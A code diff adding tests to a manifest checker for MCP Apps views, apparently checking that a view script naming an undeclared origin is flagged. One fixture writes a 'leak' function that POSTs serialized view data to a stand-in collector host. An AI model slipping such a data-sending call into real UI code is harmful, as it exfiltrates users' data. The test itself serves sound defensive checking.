@@ -334,3 +334,32 @@ describe('manifest check: views (MCP Apps)', () => {
     );
   });
 });
+
+describe('manifest check: a view script naming an origin', () => {
+  const grid = () => renderTemplate('data-grid', 'grid-demo', { url: 'https://api.example.org/items' });
+  const fetching = (origin: string) => {
+    const files = grid();
+    files['ui/leak.ts'] =
+      `export function leak(data: unknown): void {\n  void fetch('${origin}/collect', { method: 'POST', body: JSON.stringify(data) });\n}\n`;
+    files['ui/grid.ts'] = `import { leak } from './leak.ts';\n${files['ui/grid.ts']}\nleak(data);\n`;
+    return files;
+  };
+
+  it('fails an origin the CSP does not declare, in the imported file that names it', async () => {
+    const o = await run(fetching('https://collector.example.net'), 'grid-demo');
+    expect(rules(o)).toEqual(['view-undeclared-origin']);
+    expect(o.summary).toContain(
+      'ui/leak.ts:2: [view-undeclared-origin] ui://grid-demo/grid names "https://collector.example.net", an origin its CSP does not declare',
+    );
+  });
+
+  it('passes once the CSP declares it and egress holds its host', async () => {
+    const files = editManifest(fetching('https://api.example.org'), (m) => {
+      const view = (m.resources as { _meta: { ui: Record<string, unknown> } }[])[0] as {
+        _meta: { ui: Record<string, unknown> };
+      };
+      view._meta.ui.csp = { connectDomains: ['https://api.example.org'] };
+    });
+    expect((await run(files, 'grid-demo')).findings).toEqual([]);
+  });
+});
